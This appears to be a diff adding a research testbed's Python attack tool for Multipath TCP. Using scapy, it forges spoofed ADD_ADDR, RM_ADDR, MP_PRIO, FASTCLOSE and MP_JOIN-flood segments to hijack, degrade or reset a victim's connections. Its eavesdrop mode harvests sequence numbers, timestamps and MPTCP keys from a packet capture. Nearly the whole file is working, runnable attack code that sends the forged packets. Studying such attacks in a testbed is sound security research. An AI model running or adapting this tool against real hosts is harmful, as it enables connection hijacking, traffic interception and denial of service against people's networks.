@@ -1,0 +1,298 @@
+"""Attacks on MPTCP's control plane (RFC 6181, RFC 7430), run in an attacker host.
+
+    python -m experiments.attacks ATTACK --strength eavesdrop|blind --victim ADDR ...
+        --peer ADDR ... --attacker ADDR [--tap PCAP] [--tuple SRC:SPORT-DST:DPORT ...]
+        [--seed N] [--wait]
+
+ATTACK is one of ``add_addr`` (hijack: make the victim open a subflow to the attacker),
+``rm_addr`` (tear legitimate subflows down), ``mp_prio`` (set a subflow to backup),
+``fastclose`` (reset the connection) and ``join_flood`` (MP_JOIN SYNs with the
+connection's token at the peer's listener). Every forged segment carries the peer's (or,
+for the flood, the victim's) address as its source: spoofing is the attack.
+
+Two strengths:
+- ``eavesdrop``: the attacker reads a tap on the path it sits on (``--tap``, a pcap that
+  grows while the connection runs). From it: sequence and acknowledgment numbers and
+  timestamps of each subflow it sees, and the MP_CAPABLE keys if the connection's first
+  subflow crossed that path. Key-less attacks (RM_ADDR, MP_PRIO) need only the former.
+- ``blind``: off-path. It is given the four-tuples (``--tuple``; the most generous blind
+  model) and guesses everything else: sequence numbers, timestamps, keys, HMACs, tokens.
+
+With ``--wait`` the program loads scapy, prints ``ready`` and sends when a line arrives
+on stdin (it may list more four-tuples), so the runner can time the attack. It prints one JSON line: what it sent and
+what it knew. Forged packets carry IP ID ``TAG`` so captures can tell them apart.
+The packet builders are plain functions of what the attacker knows; tests run them
+without a network.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import random
+import sys
+import time
+from dataclasses import dataclass, field
+
+from hosts.options import (
+    AddAddr,
+    MpCapable,
+    MpFastclose,
+    MpJoin,
+    MpPrio,
+    OptionError,
+    RemoveAddr,
+    add_addr_hmac,
+    encode,
+    mptcp_options,
+    token_of,
+)
+from hosts.segment import parse
+
+ATTACKS = ("add_addr", "rm_addr", "mp_prio", "fastclose", "join_flood")
+STRENGTHS = ("eavesdrop", "blind")
+TAG = 0x7A7A  # IP ID of every forged packet
+TS_AHEAD = 10  # ms ahead of the peer's extrapolated clock: passes PAWS, stays plausible
+ATTACKER_ADDR_ID = 42  # the address ID a forged ADD_ADDR announces
+REMOVED_IDS = (0, 1, 2, 3)  # every address ID the testbed's hosts use
+BLIND_GUESSES = 20  # forged segments per four-tuple for a blind attacker
+FLOOD_SYNS = 20
+
+
+@dataclass
+class Knowledge:
+    """What the attacker knows of one connection between ``victim`` and ``peer``."""
+
+    # (peer addr, peer port, victim addr, victim port) -> last segment the peer sent there
+    last_from_peer: dict = field(default_factory=dict)
+    client_key: int | None = None  # MP_CAPABLE keys (client = the connection's initiator)
+    server_key: int | None = None
+    server_port: int | None = None
+    victim_is_client: bool = True
+
+    @property
+    def victim_key(self) -> int | None:
+        return self.client_key if self.victim_is_client else self.server_key
+
+    @property
+    def peer_key(self) -> int | None:
+        return self.server_key if self.victim_is_client else self.client_key
+
+    def summary(self) -> dict:
+        return {"subflows_seen": len(self.last_from_peer),
+                "keys_known": self.client_key is not None}  # fmt: skip
+
+
+def learn(frames, victim: set[str], peer: set[str]) -> Knowledge:
+    """What an eavesdropper learns from ``frames``: (Ethernet frame bytes, capture time)
+    in capture order. Headers are parsed without scapy (a tap holds tens of thousands of
+    segments); only the segments kept become scapy packets."""
+    from scapy.layers.inet import IP  # noqa: F401  (binds IP/TCP under Ether)
+    from scapy.layers.l2 import Ether
+
+    k = Knowledge()
+    last: dict = {}
+    for frame, when in frames:
+        if len(frame) < 34 or frame[12:14] != b"\x08\x00":
+            continue  # IPv4 only, like the testbed's topologies
+        packet = frame[14:]
+        try:
+            seg = parse(packet)
+        except OptionError:
+            continue
+        if packet[4:6] == TAG.to_bytes(2, "big"):
+            continue  # our own forgeries
+        if seg.flags & 0x04:  # RST
+            continue
+        if seg.payload_len == 0 and seg.flags & 0x12 == 0x10 and seg.src in victim:
+            for opt in _mptcp_options(seg.options):
+                # The client's third ACK carries both keys: sender (client) first.
+                if isinstance(opt, MpCapable) and opt.receiver_key is not None:
+                    k.client_key, k.server_key = opt.sender_key, opt.receiver_key
+                    k.server_port, k.victim_is_client = seg.dport, True
+        if seg.src in peer and seg.dst in victim and not seg.flags & 0x02:
+            last[seg.four_tuple] = (frame, when)
+    for four_tuple, (frame, when) in last.items():
+        p = Ether(frame)
+        p.time = when
+        k.last_from_peer[four_tuple] = p
+    return k
+
+
+def read_tap(path: str):
+    """(frame, time) of every packet of a pcap, without dissecting them."""
+    from scapy.utils import RawPcapReader
+
+    with RawPcapReader(path) as reader:
+        for frame, meta in reader:
+            yield frame, meta.sec + meta.usec / 1e6
+
+
+def _mptcp_options(area: bytes) -> list:
+    try:
+        return mptcp_options(area)
+    except OptionError:
+        return []
+
+
+def _timestamps(tcp) -> tuple[int, int]:
+    for name, value in tcp.options:
+        if name == "Timestamp":
+            return value
+    return (0, 0)
+
+
+def segment_after(seen, option: bytes, now: float | None = None):
+    """A pure ACK with one MPTCP ``option`` that ``seen``'s sender could send next.
+
+    Linux timestamps tick in milliseconds, so the sender's clock is extrapolated from
+    when ``seen`` was captured (``seen.time``) to ``now``: PAWS drops anything older."""
+    from scapy.layers.inet import IP, TCP
+
+    ip, tcp = seen[IP], seen[TCP]
+    tsval, tsecr = _timestamps(tcp)
+    if now is not None:
+        tsval += int((now - float(seen.time)) * 1000)
+    options = [("NOP", None), ("NOP", None), ("Timestamp", (tsval + TS_AHEAD, tsecr)),
+               (option[0], option[2:])]  # fmt: skip
+    payload = ip.len - ip.ihl * 4 - tcp.dataofs * 4  # the tap may have cut the payload
+    forged = TCP(sport=tcp.sport, dport=tcp.dport, seq=tcp.seq + payload,
+                 ack=tcp.ack, flags="A", window=tcp.window, options=options)  # fmt: skip
+    return IP(src=ip.src, dst=ip.dst, id=TAG) / forged
+
+
+def guessed_segment(four_tuple, option: bytes, rng: random.Random):
+    """A blind guess: the right four-tuple, everything else random."""
+    from scapy.layers.inet import IP, TCP
+
+    src, sport, dst, dport = four_tuple
+    options = [("NOP", None), ("NOP", None),
+               ("Timestamp", (rng.getrandbits(32), rng.getrandbits(32))),
+               (option[0], option[2:])]  # fmt: skip
+    return IP(src=src, dst=dst, id=TAG) / TCP(
+        sport=sport, dport=dport, seq=rng.getrandbits(32), ack=rng.getrandbits(32),
+        flags="A", window=rng.randrange(1, 65536), options=options,
+    )  # fmt: skip
+
+
+def option_for(attack: str, k: Knowledge, attacker: str, rng: random.Random) -> bytes:
+    """The forged MPTCP option of an option attack, as well as ``k`` allows."""
+    if attack == "add_addr":
+        if k.peer_key is not None and k.victim_key is not None:
+            mac = add_addr_hmac(k.peer_key, k.victim_key, ATTACKER_ADDR_ID, attacker)
+        else:
+            mac = rng.randbytes(8)
+        return encode(AddAddr(ATTACKER_ADDR_ID, attacker, hmac=mac))
+    if attack == "rm_addr":
+        return encode(RemoveAddr(REMOVED_IDS))
+    if attack == "mp_prio":
+        return encode(MpPrio(backup=True))
+    if attack == "fastclose":
+        key = k.victim_key if k.victim_key is not None else rng.getrandbits(64)
+        return encode(MpFastclose(key))
+    raise ValueError(f"{attack} is not an option attack")
+
+
+def option_attack(attack: str, k: Knowledge, attacker: str, rng: random.Random,
+                  tuples=(), now: float | None = None) -> list:  # fmt: skip
+    """Forged segments in the peer's name to the victim: one per subflow the eavesdropper
+    saw, or ``BLIND_GUESSES`` per given four-tuple for a blind attacker."""
+    if k.last_from_peer:
+        return [segment_after(seen, option_for(attack, k, attacker, rng), now)
+                for seen in k.last_from_peer.values()]  # fmt: skip
+    return [guessed_segment(t, option_for(attack, k, attacker, rng), rng)
+            for t in tuples for _ in range(BLIND_GUESSES)]  # fmt: skip
+
+
+def join_flood(k: Knowledge, sources: list[str], targets: list[str], port: int,
+               rng: random.Random) -> list:  # fmt: skip
+    """MP_JOIN SYNs from the ``sources`` (spoofed) to the peer's ``targets``, with the
+    token of the peer's key if known, else a guessed one."""
+    from scapy.layers.inet import IP, TCP
+
+    token = token_of(k.peer_key) if k.peer_key is not None else rng.getrandbits(32)
+    out = []
+    for i in range(FLOOD_SYNS):
+        join = encode(MpJoin(False, addr_id=rng.randrange(1, 8), token=token,
+                             nonce=rng.getrandbits(32)))  # fmt: skip
+        options = [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (rng.getrandbits(32), 0)),
+                   ("WScale", 7), (join[0], join[2:])]  # fmt: skip
+        out.append(IP(src=sources[i % len(sources)], dst=targets[i % len(targets)], id=TAG)
+                   / TCP(sport=rng.randrange(32768, 61000), dport=port, flags="S",
+                         seq=rng.getrandbits(32), options=options))  # fmt: skip
+    return out
+
+
+def parse_tuple(text: str) -> tuple[str, int, str, int]:
+    """``SRC:SPORT-DST:DPORT`` -> (src, sport, dst, dport)."""
+    try:
+        a, b = text.split("-")
+        (src, sport), (dst, dport) = a.rsplit(":", 1), b.rsplit(":", 1)
+        return src, int(sport), dst, int(dport)
+    except ValueError:
+        raise argparse.ArgumentTypeError(f"{text!r} is not SRC:SPORT-DST:DPORT") from None
+
+
+def build(args, now: float) -> tuple[list, Knowledge]:
+    rng = random.Random(args.seed)
+    victim, peer = set(args.victim), set(args.peer)
+    k = Knowledge()
+    if args.strength == "eavesdrop":
+        k = learn(read_tap(args.tap), victim, peer)
+    if args.attack == "join_flood":
+        port = k.server_port or args.port
+        seen_victim = sorted({t[2] for t in k.last_from_peer}) or args.victim
+        seen_peer = sorted({t[0] for t in k.last_from_peer}) or args.peer
+        return join_flood(k, seen_victim, seen_peer, port, rng), k
+    return option_attack(args.attack, k, args.attacker, rng, args.tuple, now), k
+
+
+def main(argv: list[str] | None = None) -> int:
+    ap = argparse.ArgumentParser(prog="python -m experiments.attacks",
+                                 description=__doc__.split("\n")[0])  # fmt: skip
+    ap.add_argument("attack", choices=ATTACKS)
+    ap.add_argument("--strength", choices=STRENGTHS, required=True)
+    ap.add_argument("--victim", action="append", required=True,
+                    help="an address of the attacked host (repeat)")  # fmt: skip
+    ap.add_argument("--peer", action="append", required=True,
+                    help="an address of its peer, whose name the forgeries use (repeat)")  # fmt: skip
+    ap.add_argument("--attacker", required=True, help="the attacker's own address")
+    ap.add_argument("--tap", help="pcap of the eavesdropped path (eavesdrop)")
+    ap.add_argument("--tuple", action="append", type=parse_tuple, default=[],
+                    help="peer->victim four-tuple SRC:SPORT-DST:DPORT (blind; repeat)")  # fmt: skip
+    ap.add_argument("--port", type=int, default=5201, help="the peer's listening port")
+    ap.add_argument("--seed", type=int, default=1)
+    ap.add_argument("--wait", action="store_true", help="print ready, send on a stdin line")
+    args = ap.parse_args(argv)
+    if args.strength == "eavesdrop" and not args.tap:
+        ap.error("--strength eavesdrop needs --tap")
+    from scapy.sendrecv import send
+
+    if args.wait:
+        print("ready", flush=True)
+        line = sys.stdin.readline()
+        if not line:
+            return 1
+        try:  # the go line may name four-tuples (a blind attacker's given knowledge)
+            args.tuple += [parse_tuple(t) for t in line.split()]
+        except argparse.ArgumentTypeError as e:
+            print(json.dumps({"error": str(e)}), flush=True)
+            return 1
+    if args.strength == "blind" and args.attack != "join_flood" and not args.tuple:
+        print(json.dumps({"error": "a blind option attack needs at least one four-tuple"}),
+              flush=True)  # fmt: skip
+        return 1
+    try:
+        packets, k = build(args, time.time())
+    except (OSError, ValueError) as e:  # an unreadable tap, a bad address
+        print(json.dumps({"error": str(e)}), flush=True)
+        return 1
+    if packets:
+        send(packets, verbose=False)
+    print(json.dumps({"attack": args.attack, "strength": args.strength, "sent": len(packets),
+                      **k.summary()}), flush=True)  # fmt: skip
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
